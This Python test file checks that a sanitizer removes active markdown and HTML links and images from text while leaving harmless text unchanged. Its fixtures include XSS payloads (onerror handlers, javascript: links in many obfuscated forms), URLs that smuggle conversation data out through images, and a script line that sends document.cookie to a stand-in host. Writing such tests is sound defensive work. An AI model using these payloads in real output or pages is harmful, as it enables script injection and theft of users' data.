"""Active parts of running text are found, and their words stay; text that only looks active stays byte for byte."""

from base64 import b64encode

import pytest
from attrs import evolve
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sanitization import Action, Category, Policy, Sanitizer, StreamSanitizer, everywhere
from sanitization.detectors.markup.links import GONE, Links
from sanitization.detectors.markup.urls import Addresses
from sanitization.findings import Kind
from sanitization.pipeline import Numbered, PipelineStage, PolicyEngine
from sanitization.prefilter import build_prefilter
from tests.rigs.cpu import cpu_seconds
from tests.rigs.sanitizer_samples import SECRETS

LINKS = Links()
PLAIN = MarkdownIt("commonmark", {"html": False})
PLAIN.validateLink = lambda url: True  # type: ignore[method-assign]
PREFILTERS = [name for name, _ in LINKS.prefilters]
ONLY = everywhere({Category.MARKUP: Action.REMOVE})
TALK = b64encode(b"what we talked about yesterday").decode().rstrip("=")
TOKEN = SECRETS["secret.github.token"]


def sanitized(text: str, policy: Policy = ONLY) -> str:
    return Sanitizer(policy).sanitize(text).text


ACTING = [
    ("go [here](javascript:run(1)) now", "markup.link.script", "go here now"),
    ("go [here](JaVaScRiPt:run(1)) now", "markup.link.script", "go here now"),
    ("go [here]( javascript:run ) now", "markup.link.script", "go here now"),
    ("go [here](<javascript:run(1)>) now", "markup.link.script", "go here now"),
    ('go [here](javascript:run "a title") now', "markup.link.script", "go here now"),
    ("go [here](java\tscript:run) now", "markup.link.script", "go here now"),
    ("go [here](javascript&colon;run) now", "markup.link.script", "go here now"),
    ("go [here](&#x6A;avascript:run) now", "markup.link.script", "go here now"),
    ("go [here](javascript\\:run) now", "markup.link.script", "go here now"),
    ("go [here](javascript%3Arun) now", "markup.link.script", "go here now"),
    ("go [here](java script:run) now", "markup.link.script", "go here now"),
    ("go [here](feed:javascript:run) now", "markup.link.script", "go here now"),
    ("go [here](vbscript:run) now", "markup.link.script", "go here now"),
    ("go [he[r]e](livescript:run) now", "markup.link.script", "go he[r]e now"),
    ("go [he\nre](javascript:run) now", "markup.link.script", "go he\nre now"),
    ("go [here](data:text/html,<b>) now", "markup.link.data", "go here now"),
    ("go [here](blob:https://a.example/1) now", "markup.link.scheme", "go here now"),
    ("go [here](file:///etc/passwd) now", "markup.link.scheme", "go here now"),
    ("go [here](ms-msdt:/id) now", "markup.link.scheme", "go here now"),
    ('go [here](x"onfocus="run(1)) now', "markup.link.breakout", "go here now"),
    ("go [here](https://bank.example@else.example/in) now", "markup.link.credentials", "go here now"),
    ("[https://bank.example/](https://else.example/)", "markup.link.deceptive", "https://bank.example/"),
    (f"go [here](https://else.example/{TALK}) now", "markup.link.exfiltration", "go here now"),
    (f"go [here](https://else.example/?z={TALK}) now", "markup.link.exfiltration", "go here now"),
    ("go [here](https://else.example/?cookie=abcdefgh) now", "markup.link.exfiltration", "go here now"),
    ("go [here](https://else.example/?d=she+said+it+is+fine) now", "markup.link.exfiltration", "go here now"),
    ("![a chart](https://else.example/c.png) ok", "markup.image.host", "a chart ok"),
    ("![](http://192.0.2.7:81/c) ok", "markup.image.host", " ok"),
    ("![a](//else.example/c) ok", "markup.image.host", "a ok"),
    ("![a](/\\else.example/c) ok", "markup.image.host", "a ok"),
    ("![a](\\\\else.example/c) ok", "markup.image.host", "a ok"),
    ("![a](https:else.example/c) ok", "markup.image.host", "a ok"),
    ("![a](ftp://else.example/c) ok", "markup.image.host", "a ok"),
    ("![a](javascript:run) ok", "markup.image.script", "a ok"),
    ("![a](data:image/svg+xml;base64,PHN2Zz4=) ok", "markup.image.data", "a ok"),
    ("![a][r] ok", "markup.image.reference", "a ok"),
    ("![a][] ok", "markup.image.reference", "a ok"),
    ("x\n\n[r]: javascript:run\nok", "markup.link.script", "x\n\n\nok"),
    ("x\n\n> [r]: <data:text/html,x>\nok", "markup.link.data", "x\n\n> \nok"),
    ("x\n\n[r]:\n  vbscript:x 'title'\nok", "markup.link.script", "x\n\n\nok"),
    ("x\n\n[r]: https://else.example/c.png\nok", "markup.image.host", "x\n\n\nok"),
    ("![r] x\n\n[r]: https://else.example/?u=1\nok", "markup.image.host", "![r] x\n\n\nok"),
    ("go <javascript:run(1)> now", "markup.link.script", f"go {GONE} now"),
    ("go <data:text/html,x> now", "markup.link.data", f"go {GONE} now"),
    (f"see https://else.example/log?q={TALK} now", "markup.link.exfiltration", f"see {GONE} now"),
    ("see https://www.bank.example@else.example/ now", "markup.link.credentials", f"see {GONE} now"),
    ("a <img src=x onerror=alert(1)> b", "markup.html.handler", "a <img> b"),
    ("a <svg/onload='fetch(`//x`)'> b", "markup.html.handler", "a <svg> b"),
    ("a <a href=' javascript:run()'>x</a> b", "markup.link.script", "a <a>x</a> b"),
    ("a <iframe src=javascript:run()></iframe> b", "markup.link.script", "a <iframe></iframe> b"),
    ("a <img src='https://else.example/p?u=ann'> b", "markup.image.host", "a <img> b"),
    ('<a href="https://else.example/">https://bank.example/</a>', "markup.link.deceptive", "<a>https://bank.example/</a>"),
    ("<script>new Image().src='//x/'+document.cookie</script>ok", "markup.html.script", "<script></script>ok"),
    ("a { background: url('javascript:run') }", "markup.css", "a { background: url('') }"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "kind", "clean"), ACTING)
def test_active_links_lose_their_address_and_keep_their_words(text: str, kind: str, clean: str) -> None:
    """The address is removed, the label stays; the finding names the problem."""
    assert sanitized(text) == clean
    assert {finding.kind for finding in Sanitizer(ONLY).sanitize(text).findings} == {kind}


HARMLESS = [
    "a < b, a<b>c, List<int>, Vec<Option<Box<T>>>, <ada@example.org>, if (a<b && c>d)",
    "[guide](https://docs.example.org/a/b.html?lang=en&page=2#part-3) and [mail](mailto:a@example.org)",
    "[search](https://www.example.com/search?q=how+do+I+sort+a+list+in+rust&hl=en)",
    "[share](https://example.com/intent?text=have%20a%20look%20at%20this%20page)",
    "[sheet](https://docs.example.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0)",
    "[commit](https://example.com/r/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)",
    "[https://example.org/a](https://www.example.org/b) [www.example.org](https://example.org/)",
    "[up](../README.md) [part](#part) [q](?page=2) [call](tel:+4930123456) [a b](<a b.md>)",
    "![logo](images/logo.png) ![own](/static/a.png) ![dot](data:image/png;base64,iVBORw0KGgo=)",
    "![logo][1] of ours\n\n[1]: images/logo.png\n",
    "[docs][1] and [more]\n\n[1]: https://docs.example.org/?page=2\n[more]: <https://example.org/x> 'Title'\n",
    "https://example.com/watch?v=dQw4w9WgXcQ&t=42s and https://user@example.com/team/repo.git",
    "https://example.com/a?utm_source=news&gclid=EAIaIQobChMI0Z3k5vbV_QIVkoBQBh0uXgQ9EAAYASAAEgKx",
    "postgres://user:pass@db.example:5432/x and ssh://git@example.com/x and git@example.com:x/y",
    "let v = vec![1, 2, 3]; if (![1, 2].includes(x)) a[0][1](b); m[key](https)",
    "- [ ] open\n- [x] done\n\nA note[^1].\n\n[^1]: as he said in 1999.",
    "javascript: is a scheme, data: too; JavaScript: The Good Parts; the onerror attribute",
    "`<script>` at the end of `<body>`; `<img src=x onerror=alert(1)>` is an attack",
    "    <script>document.cookie</script>\n",
    "```html\n<img src=x onerror=alert(1)>\n<a href='javascript:x()'>y</a>\n```\n",
    "~~~\n<script>fetch('/x')</script>\n~~~\n",
    "<button onclick=\"save()\">Save</button> <div class='a'>b</div> <br> <p>x</p>",
    '<img src="https://example.com/a.png" alt="x"> <img src="https://example.com/300?random=1">',
    '<script src="https://cdn.example.com/lib@5.1/dist/lib.min.js"></script> <a href="javascript:void(0)">x</a>',
    '<iframe src="https://video.example.com/embed/x1?start=10"></iframe> <Button onClick={() => save(1)}>x</Button>',
    ".a { background: url(https://example.com/bg.png) } .b { background: url(data:image/svg+xml;utf8,x) }",
    "&lt;script&gt;alert(1)&lt;/script&gt; \\[x\\](y) [[wiki]] [a](b [c] d](e) ](x)",
    "\ud800[x](a)\udfff <\udc00a> [\ud800](\ud800)",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_inactive_text_is_unchanged(text: str) -> None:
    done = Sanitizer(ONLY).sanitize(text)
    assert (done.text, done.findings) == (text, ())


def test_the_policys_hosts_may_receive_data() -> None:
    """Images of an allowed host are shown, and links may carry data to it; other hosts stay foreign."""
    policy = Policy(
        outbound=ONLY.outbound, link_hosts=frozenset({"our.example"}), image_hosts=frozenset({"pic.example"})
    )
    keeps = f"![a](https://pic.example/a.png?u=1) [b](https://our.example/?d={TALK}) https://our.example/{TALK} x"
    assert sanitized(keeps, policy) == keeps
    assert (
        sanitized("![a](https://our.example/a.png) [b](https://pic.example/)", policy) == "a [b](https://pic.example/)"
    )
    assert sanitized("![a](https://pic.example@our.example/a.png)", policy) == "a"


@pytest.mark.parametrize("kind", LINKS.kinds, ids=lambda kind: kind.name)
def test_each_kind_has_an_example_in_which_it_is_found(kind: Kind) -> None:
    """Each example of the reference page yields its kind."""
    assert {hit.kind for hit in LINKS.find(kind.example)} == {kind.name}


def test_an_image_with_a_secret_in_it_goes_as_a_whole() -> None:
    """The secret in the address does not stay in the label; a flagged find shields nothing."""
    text = f"![see {TOKEN}](https://else.example/?k={TOKEN}) x"
    assert Sanitizer().sanitize(text).text == "see [redacted] x"
    flagging = everywhere({Category.MARKUP: Action.FLAG, Category.SECRET: Action.REMOVE})
    done = Sanitizer(flagging).sanitize(text)
    assert done.text == "![see [redacted]](https://else.example/?k=[redacted]) x"
    assert [finding.kind for finding in done.findings].count("markup.image.host") == 2
    removing = everywhere({Category.MARKUP: Action.REMOVE, Category.SECRET: Action.FLAG})
    sanitized = Sanitizer(removing).sanitize(f"![a](https://else.example/?k={TOKEN}) x")
    assert sanitized.text == "a x"
    assert "secret.github.token" in {finding.kind for finding in sanitized.findings}


@pytest.mark.parametrize("padding", range(250, 330, 7))
def test_a_long_address_loses_its_host_and_hides_no_secret(padding: int) -> None:
    """An address beyond the read limit is no image any more, and its rest is scanned for secrets."""
    out = Sanitizer().sanitize(f"![a](https://else.example/?d={'z' * padding}/{TOKEN}) x").text
    assert "else.example" not in out
    assert TOKEN[:8] not in out


NESTED = "[![badge](https://else.example/b.svg)](https://ok.example/)"
LONG = f"![{'long label ' * 30}](https://else.example/c.png)"
DEEP = "![a [b [c [d]]]](https://else.example/c.png)"


def test_no_form_of_label_lets_an_image_through() -> None:
    """Images within links, labels beyond the length bound and brackets beyond the depth bound are removed."""
    assert sanitized(NESTED) == "[badge](https://ok.example/)"
    assert "else.example" not in sanitized(LONG)
    assert "else.example" not in sanitized(DEEP)
    linked = f"[{'long label ' * 30}](https://ok.example/c)"
    assert sanitized(linked) == linked


PIECES = [
    "[", "]", "(", ")", "![", "](", "][", "]:", "!", "<", ">", "\n", "\n\n", " ", "label", "javascript:x", "\\", "`",
    "https://else.example/a.png", f"https://else.example/?d={TALK}", "data:text/html,x", "images/pic.png", "[1]: ",
    "\n[1]: https://else.example/x.png", '"title"', "```html\n", "<img src=x onerror=alert(1)>", "<a href='", "'>",
    "<script>", "fetch(1)", "</script>", "x" * 90, "y z " * 40, "<javascript:x>", "url(", "https://a.bank@e.example/",
    "é", "中文", "\t", "=", "\ud800",
]  # fmt: skip


def in_pieces(chunks: list[str]) -> str:
    """Return the output of a stage with this detector alone."""
    active = build_prefilter((LINKS.prefilters,))
    stage = PipelineStage([Numbered(0, LINKS)], PolicyEngine(ONLY, ONLY.outbound, None), words=True)
    return "".join(
        [*(stage.feed(chunk, active(stage.held + chunk)) for chunk in chunks), stage.flush(active(stage.held))]
    )


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.data())
@settings(max_examples=300, deadline=None)
def test_any_cut_gives_the_whole_and_the_prefilters_miss_nothing(text: str, data: st.DataObject) -> None:
    """Random pieces behind prefilters yield the hits of one reading with all prefilters."""
    expected, position = "", 0
    for hit in LINKS.find(text, 0, PREFILTERS):
        expected, position = expected + text[position : hit.start] + hit.replacement, hit.end
    expected += text[position:]
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    chunks = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert in_pieces(chunks) == expected
    assert in_pieces(list(text)) == expected


@given(st.lists(st.sampled_from(PIECES), max_size=10).map("".join))
@settings(max_examples=200, deadline=None)
def test_it_has_no_memory(text: str) -> None:
    """`find` from any place outside a hit yields the same further hits."""
    hits = list(LINKS.find(text, 0, PREFILTERS))
    for place in range(len(text) + 1):
        if not any(hit.anchor < place < hit.end for hit in hits):
            assert list(LINKS.find(text, place, PREFILTERS)) == [hit for hit in hits if hit.anchor >= place]


UNCLEAR = [
    "<img src='//else.example/?d=x <b> y' z> c",
    "<a href='//else.example/?d=one two <b>three four' x='>'>y</a>",
    "[a [b](javascript:x) c](d)",
    "![a][1] b\n\n[1]: images/a.png\n",
    "![a][1] b\n\n[1]: //else.example/a.png\n",
    "[a\n\n](javascript:x)",
    "![a](https://else.example/" + "x" * 400 + ") b",
]
"""What a piece may mean depends on the next."""


@pytest.mark.parametrize("text", [text for text, _, _ in ACTING] + UNCLEAR)
def test_a_stream_shows_no_address_at_any_cut(text: str) -> None:
    """Each cut in two yields the output of the whole text."""
    whole = sanitized(text)
    for cut in range(len(text) + 1):
        stream = StreamSanitizer(ONLY)
        assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush() == whole


def test_only_an_open_bracket_is_held() -> None:
    """An open bracket is held until its end, not until the end of the text."""
    stream = StreamSanitizer(ONLY)
    fed = out = 0
    for word in ["[", "so ", "it ", "![goes "] * 500:
        fed += len(word)
        out += len(stream.feed(word))
        assert fed - out < 1_200


@pytest.mark.parametrize(
    "unit",
    ["[", "](", "][", "[a](", "![a][b] ", "[a]: x\n", "<a ", "<img src='", "<a b=\"<a c='", "<script>", "https://a@",
     "url(", "[x](javascript:x)", "[x]((((", "\n```\n<a ", "[a\n", "\\[", "![a](https://e.example/?",
     "<a onload=alert( ", "`<a ", "![[", "[a](b", "[[a]", "[a[", "<script "],
)  # fmt: skip
def test_hostile_text_takes_linear_time(unit: str) -> None:
    """200,000 characters in CPU time; quadratic work would take minutes."""
    text = unit * (200_000 // len(unit))
    assert cpu_seconds(lambda: Sanitizer(ONLY).sanitize(text), 3) < 3


@pytest.mark.parametrize(
    "text",
    [
        "!{}(https://else.example/a.png)", "!{}[a](https://else.example/a.png)", "[a]{}(javascript:x)",
        "![a]{}(https://else.example/a.png)", "{}: https://else.example/a.png", "[a]{}: javascript:x",
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "gone",
    [
        "<javascript:x>", "![](javascript:x)", "[](javascript:x)", "[wow!](javascript:x)", "[[b]](javascript:x)",
        "[a[b]](javascript:x)", "![[c](d)](javascript:x)", "![(javascript:y)](javascript:x)", "![: x](javascript:x)",
        "<img src=x onerror=alert(1)>", f"https://else.example/{TALK}", "![r][s]", "<script>fetch('x')</script>",
    ],
)  # fmt: skip
def test_the_output_contains_no_new_link(text: str, gone: str) -> None:
    """The output contains no further find."""
    once = sanitized(text.replace("{}", gone))
    assert sanitized(once) == once
    tokens = PLAIN.parseInline(once)[0].children or []
    assert [token.attrGet("src") for token in tokens if token.type == "image"] == []
    assert not any(str(token.attrGet("href")).startswith("javascript") for token in tokens)


def test_a_detector_without_hosts_knows_none() -> None:
    """`of` returns a detector with the policy's hosts, and the same detector for the same hosts."""
    policy = Policy(image_hosts=frozenset({"a.example"}))
    assert LINKS.of(policy) is LINKS.of(evolve(policy, image_hosts=frozenset({"a.example"})))
    assert not list(LINKS.of(policy).find("![x](https://a.example/x.png)"))
    assert list(Links(Addresses()).find("![x](https://a.example/x.png)"))


@pytest.mark.parametrize(
    "address", ["javascript:x", "//x\\@else.example", "x&#58;y", "x%3ay", "x\"onclick='y", "x`y", "<x"]
)
@pytest.mark.parametrize("bang", ["", "!"])
def test_a_long_text_behind_a_link_hides_nothing(address: str, bang: str) -> None:
    """A harmless-looking long address is skipped; a single suspicious sign is enough to read it."""
    text = f"{bang}[here]({address})"
    for tail in (" and so on" * 60, "a" * 600):
        assert sanitized(text + tail) == sanitized(text) + tail
    assert sanitized(f"{bang}[here](a" + " b" * 300) == f"{bang}[here](a" + " b" * 300
